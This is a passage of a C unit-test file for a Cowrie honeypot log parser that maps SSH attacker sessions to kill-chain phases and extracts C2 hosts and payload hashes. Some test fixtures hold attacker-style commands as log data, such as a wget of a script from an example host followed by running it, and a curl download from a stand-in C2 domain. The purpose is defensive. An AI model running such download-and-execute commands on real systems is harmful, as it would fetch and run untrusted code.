           ",\"dst_ip\":\"77.88.21.158\",\"dst_port\":25,\"src_port\":5"),
        EV("cowrie.direct-tcpip.data", "8.8.4.4", "e", "2024-04-01T00:00:09Z",
           ",\"dst_ip\":\"azenv.net\",\"data\":\"b'GET /'\""),
        EV("cowrie.log.closed", "8.8.4.4", "e", "2024-04-01T00:00:10Z", ",\"shasum\":\"tty\""),
        EV("cowrie.session.closed", "8.8.4.4", "e", "2024-04-01T00:00:11Z", ",\"duration\":11"),
        EV("cowrie.some.future.event", "8.8.4.4", "e", "2024-04-01T00:00:11Z", ""),
        NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    assert_int_equal(cowrie_bad(cw), 0);
    const obs_t *o = got.obs[0];
    assert_string_equal(o->hassh, "f555226d");
    assert_int_equal(o->n_sessions, 5);
    const obs_session_t *s = &o->sessions[0];
    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
    assert_int_equal(s->n_creds, 3);
    assert_string_equal(s->creds[0].user, "admin");
    assert_string_equal(s->creds[0].pass, "publickey:10:bd:be");
    assert_string_equal(s->creds[2].pass, "y");
    s = &o->sessions[1];
    assert_int_equal(s->phase, UKC_EXECUTION);
    assert_int_equal(s->n_commands, 2); /* .success kept (no input), .failed repeat dropped */
    assert_string_equal(s->commands[0], "cat /bin/busybox");
    assert_string_equal(s->commands[1], "enable");
    s = &o->sessions[2];
    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
    assert_string_equal(s->c2, "188.209.49.244");
    assert_null(s->payload_hash);
    s = &o->sessions[3];
    assert_int_equal(s->phase, UKC_DELIVERY);
    assert_string_equal(s->payload_hash, "up1");
    s = &o->sessions[4];
    assert_int_equal(s->phase, UKC_PIVOTING);
    assert_null(s->c2); /* a tunnel's destination is a victim, not a C2 */
    assert_true(s->start == 1711929608.0 && s->duration == 3.0);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Old Cowrie versions: command text only in "message" ("CMD: ..."); kex lists on the
    version event (test_legacy_hassh); a string src_port. */
static void
test_old_schema(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.session.connect", "5.5.5.5", "m", T0, ",\"src_port\":\"1234\""),
        EV("cowrie.command.input", "5.5.5.5", "m", T0, ",\"message\":\"CMD: uname -a\""),
        EV("cowrie.command.input", "5.5.5.5", "m", T0, ",\"message\":\"not a command\""), NULL};
    cowrie_t *cw = cowrie_new(NULL);
    s_got_t got = {0};
    s_run(cw, lines, &got);
    const obs_session_t *s = &got.obs[0]->sessions[0];
    assert_int_equal(s->phase, UKC_DISCOVERY);
    assert_int_equal(s->n_commands, 1);
    assert_string_equal(s->commands[0], "uname -a");
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

#define DAY1 "2019-12-03T10:00:00Z"
#define DAY2 "2019-12-04T10:00:00Z"

/*  Grouping by IP and sensor (T-Pot's sensor id changes every day). */
static void
test_group_sensor(void **state)
{
    (void)state;
    const char *lines[] = {EV("cowrie.session.connect", "2.2.2.2", "a", DAY1, ",\"sensor\":\"c1\""),
                           EV("cowrie.session.connect", "2.2.2.2", "b", DAY2, ",\"sensor\":\"c2\""),
                           EV("cowrie.session.connect", "2.2.2.2", "c", DAY2, ""),
                           EV("cowrie.client.version", "2.2.2.2", "b", DAY2,
                              ",\"version\":\"b'SSH-2.0-Go'\",\"sensor\":\"c2\""),
                           NULL};
    cowrie_opts_t opts = {.group = COWRIE_GROUP_IP_SENSOR};
    cowrie_t *cw = cowrie_new(&opts);
    for (size_t i = 0; lines[i]; i++) {
        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
    }
    assert_string_equal(cowrie_client_version(cw, "2.2.2.2@c2"), "SSH-2.0-Go");
    assert_null(cowrie_client_version(cw, "2.2.2.2"));
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.n, 3);
    assert_string_equal(got.obs[0]->id, "cowrie:2.2.2.2@c1");
    assert_string_equal(got.obs[1]->id, "cowrie:2.2.2.2@c2");
    assert_string_equal(got.obs[2]->id, "cowrie:2.2.2.2"); /* no sensor: the IP alone */
    assert_string_equal(got.obs[1]->ip, "2.2.2.2");
    s_got_clear(&got);
    cowrie_destroy(&cw);
    /* By IP (the default), the same input is one observation recurring over two days. */
    cw = cowrie_new(NULL);
    s_run(cw, lines, &got);
    assert_int_equal(got.n, 1);
    assert_string_equal(got.obs[0]->id, "cowrie:2.2.2.2");
    assert_int_equal(got.obs[0]->n_sessions, 3);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Idle flush: a source is emitted once event time is flush_idle past its last event; a
    later return makes "~2". Memory follows the sources active in the window. */
static void
test_flush_idle(void **state)
{
    (void)state;
    cowrie_opts_t opts = {.flush_idle = 3600};
    cowrie_t *cw = cowrie_new(&opts);
    s_got_t got = {0};
    char line[512];
    /* 500 sources, one new every 60 s, each seen twice 30 s apart. */
    uint64_t no = 0;
    for (int i = 0; i < 500; i++) {
        for (int rep = 0; rep < 2; rep++) {
            long t = 1577836800L + i * 60L + rep * 30L;
            snprintf(line, sizeof line,
                     "{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"10.0.%d.%d\","
                     "\"session\":\"s%d\",\"timestamp\":\"2020-01-01T%02ld:%02ld:%02ldZ\"}",
                     i / 256, i % 256, i, (t / 3600) % 24, (t / 60) % 60, t % 60);
            assert_int_equal(cowrie_feed(cw, line, strlen(line), ++no), 0);
            assert_int_equal(cowrie_emit_idle(cw, s_collect, &got), 0);
        }
    }
    assert_int_equal(got.checked, 0);
    assert_true(got.n >= 430 && got.n < 500);
    assert_true(cowrie_open_peak(cw) <= 62);
    assert_string_equal(got.obs[0]->id, "cowrie:10.0.0.0");
    /* The first source returns: a new observation with a suffixed id. */
    snprintf(line, sizeof line, "%s",
             EV("cowrie.session.connect", "10.0.0.0", "again", "2020-01-01T09:00:00Z", ""));
    assert_int_equal(cowrie_feed(cw, line, strlen(line), ++no), 0);
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.n, 501);
    assert_int_equal(cowrie_observations(cw), 501);
    assert_int_equal(cowrie_open(cw), 0);
    assert_string_equal(got.obs[500]->id, "cowrie:10.0.0.0~2");
    /* Every source once, in first-seen order. */
    for (int i = 0; i < 500; i++) {
        char id[64];
        snprintf(id, sizeof id, "cowrie:10.0.%d.%d", i / 256, i % 256);
        assert_string_equal(got.obs[i]->id, id);
        assert_int_equal(got.obs[i]->n_sessions, 1);
    }
    s_got_clear(&got);
    cowrie_destroy(&cw);
    /* Without flush_idle, cowrie_emit_idle does nothing. */
    cw = cowrie_new(NULL);
    assert_int_equal(cowrie_feed(cw, line, strlen(line), 1), 0);
    assert_int_equal(cowrie_emit_idle(cw, s_collect, &got), 0);
    assert_int_equal(got.n, 0);
    assert_int_equal(cowrie_open(cw), 1);
    cowrie_destroy(&cw);
}

/*  Reads a fixture file under TESTDATA_DIR/cowrie into a feed function. */
static void
s_feed_fixture(cowrie_t *cw, const char *name,
               int (*feed)(cowrie_t *, const char *, size_t, uint64_t))
{
    const char *dir = getenv("TESTDATA_DIR");
    assert_non_null(dir);
    char *path = xasprintf("%s/cowrie/%s", dir, name);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    uint64_t no = 0;
    while ((n = getline(&line, &cap, f)) >= 0) {
        size_t len = (size_t)n;
        if (len > 0 && line[len - 1] == '\n') {
            len--;
        }
        feed(cw, line, len, ++no);
    }
    free(line);
    fclose(f);
    free(path);
}

/*  fatt join by (src_ip, src_port): JA3, network-side HASSH (Cowrie's own kex HASSH
    first), server-side records ignored, nearest in time within the window. */
static void
test_fatt_join(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    s_feed_fixture(cw, "fatt.jsonl", cowrie_fatt_feed);
    assert_int_equal(cowrie_fatt_bad(cw), 1);
    assert_int_equal(cowrie_fatt_records(cw), 6);
    s_feed_fixture(cw, "fatt_sessions.jsonl", cowrie_feed);
    assert_int_equal(cowrie_bad(cw), 0);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 4);
    /* 203.0.113.1: no Cowrie kex; fatt's client HASSH (not hasshServer) and JA3. */
    assert_string_equal(got.obs[0]->id, "cowrie:203.0.113.1");
    assert_string_equal(got.obs[0]->hassh, "c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1");
    assert_string_equal(got.obs[0]->ja3, "3b5074b1b5d032e5620f69f9f700ff0e");
    /* 203.0.113.2: Cowrie's own kex HASSH wins over fatt's. */
    assert_string_equal(got.obs[1]->hassh, "cafecafecafecafecafecafecafecafe");
    /* 203.0.113.3: the port matches but the fatt record is a day away: no join. */
    assert_null(got.obs[2]->hassh);
    /* 203.0.113.4: port reused; the record nearest the connect time wins. */
    assert_string_equal(got.obs[3]->hassh, "d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2");
    assert_int_equal(cowrie_fatt_joined(cw), 4);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Path of the smallest radec73-2024 Cowrie file per MANIFEST.tsv, owned, or NULL. */
static char *
s_smallest_real(const char *shared)
{
    char *manifest = xasprintf("%s/realdata/MANIFEST.tsv", shared);
    FILE *f = fopen(manifest, "r");
    free(manifest);
    if (!f) {
        return NULL;
    }
    char row[1024];
    char best[512] = "";
    unsigned long long best_size = 0;
    while (fgets(row, sizeof row, f)) {
        char dataset[64], file[400];
        unsigned long long size;
        if (sscanf(row, "%63s %399s %llu", dataset, file, &size) == 3 &&
            strcmp(dataset, "radec73-2024") == 0 && (best[0] == '\0' || size < best_size)) {
            snprintf(best, sizeof best, "%s", file);
            best_size = size;
        }
    }
    fclose(f);
    return best[0] ? xasprintf("%s/realdata/radec73-2024/%s", shared, best) : NULL;
}

static void
test_real_file(void **state)
{
    (void)state;
    /* The shared data sits beside the checkout in CI and here; its absence is a failure. */
    const char *shared = getenv("SHARED_DIR");
    assert_non_null(shared);
    char *path = s_smallest_real(shared);
    assert_non_null(path);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    cowrie_t *cw = cowrie_new(NULL);
    json_t *ips = json_object();
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    uint64_t line_no = 0;
    while ((n = getline(&line, &cap, f)) >= 0) {
        line_no++;
        size_t len = (size_t)n;
        if (len > 0 && line[len - 1] == '\n') {
            len--;
        }
        cowrie_feed(cw, line, len, line_no);
        json_t *ev = json_loadb(line, len, 0, NULL);
        const char *ip = json_string_value(json_object_get(ev, "src_ip"));
        if (ip) {
            json_object_set_new(ips, ip, json_true());
        }
        json_decref(ev);
    }
    free(line);
    fclose(f);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_true(got.n > 0);
    assert_int_equal(got.n, json_object_size(ips));
    assert_int_equal(cowrie_lines(cw), line_no);
    assert_int_equal(cowrie_bad(cw), 0);
    size_t sessions = 0;
    for (size_t i = 0; i < got.n; i++) {
        sessions += got.obs[i]->n_sessions;
    }
    assert_int_equal(sessions, cowrie_cadre_sessions(cw));
    assert_true(cowrie_cadre_sessions(cw) >= cowrie_sessions(cw));
    json_decref(ips);
    s_got_clear(&got);
    cowrie_destroy(&cw);
    free(path);
}

/* -------------------------------------------------------------------------------------------
    The limits: what they keep out is counted per kind, and the evidence they would lose is
    kept. The big inputs are generated here. */

/*  Feeds one well-formed event: eventid, src_ip, session, the time as secs (< 28 days)
    after 2020-01-01T00:00:00Z, then extra JSON members (",\"input\":..." or ""). */
static void
s_feed_ev(cowrie_t *cw, const char *eventid, const char *ip, const char *session, long secs,
          const char *extra, uint64_t line_no)
{
    assert_true(secs >= 0 && secs < 28L * 86400);
    char ts[96];
    snprintf(ts, sizeof ts, "2020-01-%02ldT%02ld:%02ld:%02ldZ", 1 + secs / 86400, secs / 3600 % 24,
             secs / 60 % 60, secs % 60);
    char *line = xasprintf("{\"eventid\":\"%s\",\"src_ip\":\"%s\",\"session\":\"%s\","
                           "\"timestamp\":\"%s\"%s}",
                           eventid, ip, session, ts, extra);
    assert_int_equal(cowrie_feed(cw, line, strlen(line), line_no), 0);
    free(line);
}

/*  The sum of every drop counter. */
static uint64_t
s_dropped_total(const cowrie_t *cw)
{
    uint64_t n = 0;
    for (int k = 0; k < COWRIE_DROP_KINDS; k++) {
        n += cowrie_dropped(cw, (cowrie_drop_t)k);
    }
    return n;
}

/*  One source with OBS_MAX_SESSIONS + 1 Cowrie sessions: the last is dropped and counted
    once (however many events it has), and the split of the first session's two phases is
    not made (it would pass OBS_MAX_SESSIONS cadre sessions): the observation stays valid,
    and every kept Cowrie session still has a cadre session. */
static void
test_limit_sessions(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    uint64_t no = 0;
    char id[32];
    for (long i = 0; i <= OBS_MAX_SESSIONS; i++) {
        snprintf(id, sizeof id, "s%ld", i);
        s_feed_ev(cw, "cowrie.login.failed", "10.0.0.1", id, i,
                  ",\"username\":\"root\",\"password\":\"x\"", ++no);
    }
    s_feed_ev(cw, "cowrie.command.input", "10.0.0.1", "s0", 2 * OBS_MAX_SESSIONS,
              ",\"input\":\"uname -a\"", ++no);
    snprintf(id, sizeof id, "s%d", OBS_MAX_SESSIONS);
    s_feed_ev(cw, "cowrie.command.input", "10.0.0.1", id, 2 * OBS_MAX_SESSIONS + 1,
              ",\"input\":\"wget http://198.51.100.1/a\"", ++no);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(cowrie_sessions(cw), OBS_MAX_SESSIONS);
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_SESSIONS), 1);
    assert_int_equal(got.n, 1);
    const obs_t *o = got.obs[0];
    assert_int_equal(o->n_sessions, OBS_MAX_SESSIONS);
    assert_string_equal(o->sessions[0].id, "s0");
    assert_int_equal(o->sessions[0].phase, UKC_CREDENTIAL_ACCESS);
    assert_int_equal(o->sessions[0].n_commands, 1); /* joined the run before */
    assert_string_equal(o->sessions[OBS_MAX_SESSIONS - 1].id, "s99999");
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_SPLITS), 1);
    assert_int_equal(s_dropped_total(cw), 2);
    assert_string_equal(cowrie_drop_name(COWRIE_DROP_SESSIONS), "sessions");
    assert_string_equal(cowrie_drop_name(COWRIE_DROP_SPLITS), "splits");
    assert_null(cowrie_drop_name(COWRIE_DROP_KINDS));
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  OBS_MAX_ITEMS + 1 credential pairs in one run: one is dropped and counted. */
static void
test_limit_credentials(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    char extra[96];
    for (long i = 0; i <= OBS_MAX_ITEMS; i++) {
        snprintf(extra, sizeof extra, ",\"username\":\"root\",\"password\":\"p%ld\"", i);
        s_feed_ev(cw, "cowrie.login.failed", "10.0.0.2", "c", i / 10, extra, (uint64_t)i + 1);
    }
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.obs[0]->n_sessions, 1);
    assert_int_equal(got.obs[0]->sessions[0].n_creds, OBS_MAX_ITEMS);
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_CREDENTIALS), 1);
    assert_int_equal(s_dropped_total(cw), 1);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  200,001 echo commands, then a wget naming a C2 host (twice), its download, and a
    tunnel: past the session's event limit the commands' text is dropped and counted, but
    the C2 host and the payload hash are kept (once each), and a .failed repeating its
    input line is no extra drop. */
static void
test_limit_commands_keep_c2(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    const long n_echo = (long)COWRIE_MAX_EVENTS + 1;
    char extra[96];
    uint64_t no = 0;
    for (long i = 0; i < n_echo; i++) {
        snprintf(extra, sizeof extra, ",\"input\":\"echo %ld\"", i);
        s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", i / 100, extra, ++no);
    }
    long t = n_echo / 100 + 1;
    const char *wget = ",\"input\":\"cd /tmp; wget http://203.0.113.77/x.sh; sh x.sh\"";
    s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", t, wget, ++no);
    s_feed_ev(cw, "cowrie.command.failed", "10.0.0.3", "e", t, wget, ++no);
    s_feed_ev(cw, "cowrie.session.file_download", "10.0.0.3", "e", t + 1,
              ",\"shasum\":\"feedc0de\",\"url\":\"http://203.0.113.77/x.sh\"", ++no);
    s_feed_ev(cw, "cowrie.command.input", "10.0.0.3", "e", t + 2, wget, ++no);
    s_feed_ev(cw, "cowrie.session.file_download", "10.0.0.3", "e", t + 3,
              ",\"shasum\":\"feedc0de\",\"url\":\"http://203.0.113.77/x.sh\"", ++no);
    s_feed_ev(cw, "cowrie.direct-tcpip.request", "10.0.0.3", "e", t + 4, "", ++no);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    const obs_t *o = got.obs[0];
    const char *c2 = NULL, *hash = NULL;
    size_t commands = 0;
    for (size_t i = 0; i < o->n_sessions; i++) {
        c2 = c2 ? c2 : o->sessions[i].c2;
        hash = hash ? hash : o->sessions[i].payload_hash;
        commands += o->sessions[i].n_commands;
    }
    assert_non_null(c2);
    assert_string_equal(c2, "203.0.113.77");
    assert_non_null(hash);
    assert_string_equal(hash, "feedc0de");
    assert_int_equal(o->sessions[0].phase, UKC_EXECUTION);
    assert_int_equal(o->sessions[0].n_commands, OBS_MAX_ITEMS);
    assert_int_equal(o->sessions[1].phase, UKC_COMMAND_AND_CONTROL);
    assert_string_equal(o->sessions[1].c2, "203.0.113.77");
    /* Kept: 200,000 echo events (100,000 of them listed); dropped: 100,000 listed past
       OBS_MAX_ITEMS, the last echo and both wgets (their text), the repeated download,
       the tunnel. */
    assert_int_equal(commands, OBS_MAX_ITEMS);
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_COMMANDS),
                     (uint64_t)(n_echo - OBS_MAX_ITEMS) + 2);
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_EVENTS), 2);
    assert_int_equal(s_dropped_total(cw), (uint64_t)(n_echo - OBS_MAX_ITEMS) + 4);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Values over their OBS_MAX_* size are dropped and counted; a command too long to keep
    still gives its C2 host. */
static void
test_limit_values(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new(NULL);
    size_t big = OBS_MAX_TEXT + 10;
    char *pad = xmalloc(big + 1);
    memset(pad, 'a', big);
    pad[big] = '\0';
    char *cmd = xasprintf(",\"input\":\"echo %s; curl -O http://c2.example.net/b\"", pad);
    char *user = xasprintf(",\"username\":\"%s\",\"password\":\"x\"", pad);
    char *hash = xasprintf(",\"shasum\":\"%.*s\"", OBS_MAX_SHORT + 1, pad);
    s_feed_ev(cw, "cowrie.login.failed", "10.0.0.4", "v", 0, user, 1);
    s_feed_ev(cw, "cowrie.command.input", "10.0.0.4", "v", 1, cmd, 2);
    s_feed_ev(cw, "cowrie.command.failed", "10.0.0.4", "v", 1, cmd, 3); /* its repeat */
    s_feed_ev(cw, "cowrie.session.file_upload", "10.0.0.4", "v", 2, hash, 4);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    const obs_t *o = got.obs[0];
    assert_int_equal(o->n_sessions, 3);
    assert_int_equal(o->sessions[0].n_creds, 0);
    assert_int_equal(o->sessions[1].phase, UKC_COMMAND_AND_CONTROL);
    assert_int_equal(o->sessions[1].n_commands, 0);
    assert_string_equal(o->sessions[1].c2, "c2.example.net");
    assert_null(o->sessions[2].payload_hash);
    assert_int_equal(cowrie_dropped(cw, COWRIE_DROP_VALUES), 3);
    assert_int_equal(s_dropped_total(cw), 3);
    s_got_clear(&got);
    cowrie_destroy(&cw);
    free(cmd);
    free(user);
    free(hash);
    free(pad);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_parse_time),
        cmocka_unit_test(test_mapping),
        cmocka_unit_test(test_phases),
        cmocka_unit_test(test_echo_321_kept),
        cmocka_unit_test(test_out_of_order),
        cmocka_unit_test(test_bad_lines),
        cmocka_unit_test(test_legacy_hassh),
        cmocka_unit_test(test_rule_rows),
        cmocka_unit_test(test_command_phases),
        cmocka_unit_test(test_command_c2),
        cmocka_unit_test(test_split),
        cmocka_unit_test(test_parts),
        cmocka_unit_test(test_default_decky),
        cmocka_unit_test(test_event_types),
        cmocka_unit_test(test_old_schema),
        cmocka_unit_test(test_group_sensor),
        cmocka_unit_test(test_flush_idle),
        cmocka_unit_test(test_fatt_join),
        cmocka_unit_test(test_real_file),
        cmocka_unit_test(test_limit_sessions),
        cmocka_unit_test(test_limit_credentials),
        cmocka_unit_test(test_limit_commands_keep_c2),
        cmocka_unit_test(test_limit_values),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
